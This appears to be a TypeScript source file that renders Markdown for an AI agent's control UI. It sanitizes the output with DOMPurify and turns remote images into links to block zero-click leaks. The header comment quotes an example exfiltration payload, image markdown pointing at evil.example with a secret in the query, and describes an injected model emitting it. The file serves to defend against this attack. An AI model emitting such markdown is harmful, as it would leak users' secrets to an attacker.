// Markdown as the control UI shows every message and note: parsed by marked (GitHub flavour, line
// breaks kept), then sanitized by DOMPurify, so a message, a tool result or a toolpack's output can
// carry no script, event handler or javascript: link. Links open in a new tab without a referrer.
// An image is kept only with a data: URL (its bytes are in the text): any other src would make the
// browser send a request the owner did not ask for (`![](/api/…?token=…)`, a tracking pixel, an
// injected model's `![](https://evil.example/?k=<secret>)`: a zero-click leak), so it is shown as a
// link to its address instead (its alt text, else the address; http(s) only, else the alt text
// alone), which fetches nothing unless clicked; srcset and media elements are not allowed.
import DOMPurify from 'dompurify';
import { markdownToHtml } from './markdown-html.js';

const purify = DOMPurify(window);
/** The only image source kept: the picture's own bytes. */
const INLINE_IMAGE = /^data:image\//i;

/** Where a remote image's address waits (no `src`: nothing is fetched) until it becomes a link. */
const REMOTE_SRC = 'data-remote-src';
const WEB_ADDRESS = /^https?:\/\//i;

purify.addHook('afterSanitizeAttributes', (node) => {
  const src = node.getAttribute('src') ?? '';
  if (node.tagName === 'IMG' && !INLINE_IMAGE.test(src)) {
    node.removeAttribute('src');
    if (WEB_ADDRESS.test(src)) node.setAttribute(REMOTE_SRC, src);
  }
  if (node.tagName === 'A') {
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer');
  }
});

const PURIFY_OPTIONS = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    'style',
    'form',
    'input',
    'button',
    'textarea',
    'select',
    'iframe',
    'video',
    'audio',
    'source',
    'track',
    'picture',
  ],
  FORBID_ATTR: ['style', 'srcset', 'background', 'poster'],
};

/** Markdown text as sanitized HTML, every image that is not inline shown as a link (or its alt text). */
function markdownHtml(text: string): string {
  const fragment = purify.sanitize(markdownToHtml(text), {
    ...PURIFY_OPTIONS,
    RETURN_DOM_FRAGMENT: true,
  });
  for (const image of fragment.querySelectorAll('img')) {
    if (INLINE_IMAGE.test(image.getAttribute('src') ?? '')) continue;
    const address = image.getAttribute(REMOTE_SRC);
    const alt = image.getAttribute('alt') ?? '';
    if (address === null) {
      // No web address (a relative or odd src): only its alt text, as an image without src shows.
      image.replaceWith(document.createTextNode(alt));
      continue;
    }
    const label = alt || address;
    const link = document.createElement('a');
    link.href = address;
    link.title = address;
    link.target = '_blank';
    link.rel = 'noopener noreferrer';
    link.textContent = label;
    image.replaceWith(link);
  }
  const holder = document.createElement('div');
  holder.append(fragment);
  return holder.innerHTML;
}

export function Markdown({ text, className }: { text: string; className?: string }) {
  const classes = className ? `markdown ${className}` : 'markdown';
  // The HTML is sanitized by DOMPurify (markdownHtml).
  return <div class={classes} dangerouslySetInnerHTML={{ __html: markdownHtml(text) }} />;
}
